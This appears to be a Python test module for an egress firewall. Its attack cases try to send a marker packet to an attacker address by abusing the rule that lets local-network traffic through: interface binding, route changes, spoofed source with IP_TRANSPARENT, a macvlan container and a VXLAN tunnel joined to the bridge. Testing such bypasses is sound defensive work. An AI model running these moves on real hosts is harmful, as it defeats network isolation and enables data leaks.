# SPDX-License-Identifier: MIT
"""What stays on the machine is let through: so an attacker's packet tries to look as if it did. The field has a bridge
with 10.31.0.0/24 and fd31::/64 behind it, which is local; it takes root on the host to lead these elsewhere."""
import os
import socket

from kernel import CLONE_NEWNET, unshare
from link import ROOT, tool
from table import attack

THEME = "networks on the machine ([guard] local)"
BRIDGE = "ohbr0"
IP_TRANSPARENT, IPV6_TRANSPARENT = 19, 75
MAC = "02:6f:68:00:00:99"       # whoever answers for the address out there


def member(t, host=99):
    return f"10.31.0.{host}" if t.family == 4 else f"fd31::{host}"


def neighbour(t, device, address):
    """Known before it is asked for, or the packet would wait for an answer."""
    tool("ip", "neigh", "replace", address, "lladdr", MAC, "dev", device, "nud", "permanent")


@attack(THEME, "to an address of the network, from a socket that is bound to the uplink", "cgroup",
        "protocol-not-allowed", **ROOT)
def local_bound(t):
    neighbour(t, "eth0", member(t))
    try:
        s = t.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        s.sendto(t.marker, (member(t), t.port))
    finally:
        tool("ip", "neigh", "del", member(t), "dev", "eth0")


@attack(THEME, "to an address of the network that is routed to the uplink", "cgroup", "protocol-not-allowed", **ROOT)
def local_routed_away(t):
    route = (f"{member(t)}/{32 if t.family == 4 else 128}", "via", t.router, "dev", "eth0")
    tool("ip", "route", "add", *route)
    try:
        t.socket().sendto(t.marker, (member(t), t.port))
    finally:
        tool("ip", "route", "del", *route)


@attack(THEME, "to the attacker, with a source in the network", "connect", "protocol-not-allowed")
def local_spoofed(t):
    s = t.socket()
    if t.family == 4:
        s.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    else:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
    s.bind((member(t), 0))
    s.sendto(t.marker, (t.to, t.port))


@attack(THEME, "from a container with an address of the network, whose device stands on the uplink (macvlan)", "cgroup",
        "protocol-not-allowed", **ROOT)
def local_claimed(t):
    outside, pid = os.open("/proc/self/ns/net", os.O_RDONLY), os.getpid()
    unshare(CLONE_NEWNET)
    tool("nsenter", f"--net=/proc/{pid}/fd/{outside}", "ip", "link", "add", "ohm", "link", "eth0", "netns", str(pid),
         "type", "macvlan", "mode", "bridge")
    tool("ip", "addr", "add", f"{member(t, 98)}/{24 if t.family == 4 else 64}", "dev", "ohm",
         *(["nodad"] if t.family == 6 else []))
    tool("ip", "link", "set", "ohm", "up")
    neighbour(t, "ohm", member(t))
    t.socket().sendto(t.marker, (member(t), t.port))


@attack(THEME, "to an address of the network, after a tunnel became a port of its bridge", "uplink",
        "protocol-not-allowed", **ROOT)
def local_opened(t):
    """What the bridge floods leaves in a frame of the tunnel's, which is no longer inside."""
    tool("ip", "link", "add", "ohv", "type", "vxlan", "id", "9", "remote", t.to, "dstport", "4789", "dev", "eth0")
    try:
        tool("ip", "link", "set", "ohv", "master", BRIDGE, "up")
        neighbour(t, BRIDGE, member(t))
        t.socket().sendto(t.marker, (member(t), t.port))
    finally:
        tool("ip", "link", "del", "ohv")
        tool("ip", "neigh", "del", member(t), "dev", BRIDGE)
